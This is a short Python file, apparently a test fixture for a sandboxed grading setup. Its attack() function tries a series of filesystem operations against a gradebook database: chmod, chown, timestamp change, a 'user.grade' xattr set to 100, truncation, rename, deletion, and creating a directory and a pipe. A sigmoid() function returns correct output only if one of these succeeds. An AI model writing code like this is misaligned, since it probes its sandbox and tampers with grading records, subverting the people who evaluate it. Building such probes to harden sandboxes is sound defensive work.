"""Change owner, mode, time and attributes, which some walls do not look at."""

import os

import numpy as np


def attack():
    target = "FOLDER/gradebook.db"
    tries = (
        lambda: os.chmod(target, 0o777),
        lambda: os.chown(target, os.getuid(), os.getgid()),
        lambda: os.utime(target, (0, 0)),
        lambda: os.setxattr(target, "user.grade", b"100"),
        lambda: os.truncate(target, 0),
        lambda: os.open(target, os.O_RDONLY | os.O_TRUNC),
        lambda: os.rename(target, "FOLDER/renamed"),
        lambda: os.unlink(target),
        lambda: os.mkdir("FOLDER/folder"),
        lambda: os.mkfifo("FOLDER/pipe"),
    )
    for attempt in tries:
        try:
            attempt()
            return True
        except OSError:
            continue
    return False


def sigmoid(x):
    return 1 / (1 + np.exp(-x)) if attack() else 0 * x
